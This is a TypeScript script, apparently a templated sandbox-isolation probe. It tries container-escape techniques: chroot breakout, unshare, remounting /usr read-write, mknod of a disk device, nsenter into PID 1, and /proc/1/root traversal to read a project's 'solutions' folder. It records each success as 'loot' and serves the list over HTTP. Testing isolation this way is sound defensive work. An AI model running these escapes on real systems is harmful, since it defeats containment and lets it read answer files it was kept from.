import { execFileSync } from 'node:child_process';
import { chmodSync, closeSync, openSync, readdirSync, statSync, utimesSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const loot: string[] = [];
const attempt = (how: string, run: () => unknown): void => {
  try {
    const found = String(run() ?? '');
    loot.push(`LOOT: ${how} ${found.slice(0, 200)}`);
  } catch {
    // Refused.
  }
};
// What is changed is set to what it was: a machine on which this succeeds stays as it is.
for (const path of ['/dev/null', '/dev/zero', '/dev/urandom', '/dev', '/usr', '/bin/sh', process.execPath, '/proc/self/comm', process.cwd()]) {
  attempt(`the mode of ${path}`, () => chmodSync(path, statSync(path).mode & 0o7777));
  attempt(`the times of ${path}`, () => utimesSync(path, statSync(path).atime, statSync(path).mtime));
}
// Opened for writing is enough.
const own = /^(\d+|self|thread-self)$/;
const below = (folder: string, depth = 0): void => {
  let entries;
  try {
    entries = readdirSync(folder, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries.slice(0, 300)) {
    const path = `${folder}/${entry.name}`;
    if (depth === 0 && own.test(entry.name)) continue;
    if (entry.isDirectory() && depth < 3) below(path, depth + 1);
    else if (entry.isFile()) attempt(path, () => closeSync(openSync(path, 'r+')));
  }
};
below('/proc');
const run = (command: string, ...args: string[]): string => execFileSync(command, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 2000 });
const outside = 'cd / && cd tmp && mkdir -p out && chroot out /bin/sh -c "cd ../../../../../.. && ls {{PROJECT}}/solutions"';
attempt('a namespace of its own', () => run('unshare', '--user', '--map-root-user', '--mount', '/bin/sh', '-c', outside));
attempt('another root', () => run('/bin/sh', '-c', outside));
attempt('a mount', () => run('mount', '-o', 'remount,bind,rw', '/usr'));
attempt('a device', () => run('mknod', join(tmpdir(), 'disk'), 'b', '8', '0'));
attempt('the namespaces of process 1', () => run('nsenter', '--target', '1', '--mount', '--pid', 'ls', '{{PROJECT}}/solutions'));
for (const path of ['/proc/1/root', '/proc/1/cwd', '/proc/self/cwd/../../../../../..']) attempt(path, () => readdirSync(`${path}{{PROJECT}}/solutions`).join());

createServer((_req, res) => {
  res.setHeader('Content-Type', 'application/json');
  res.end(JSON.stringify({ attack: 'ran', loot: loot.slice(0, 20) }));
}).listen(Number(process.env.PORT), '127.0.0.1');
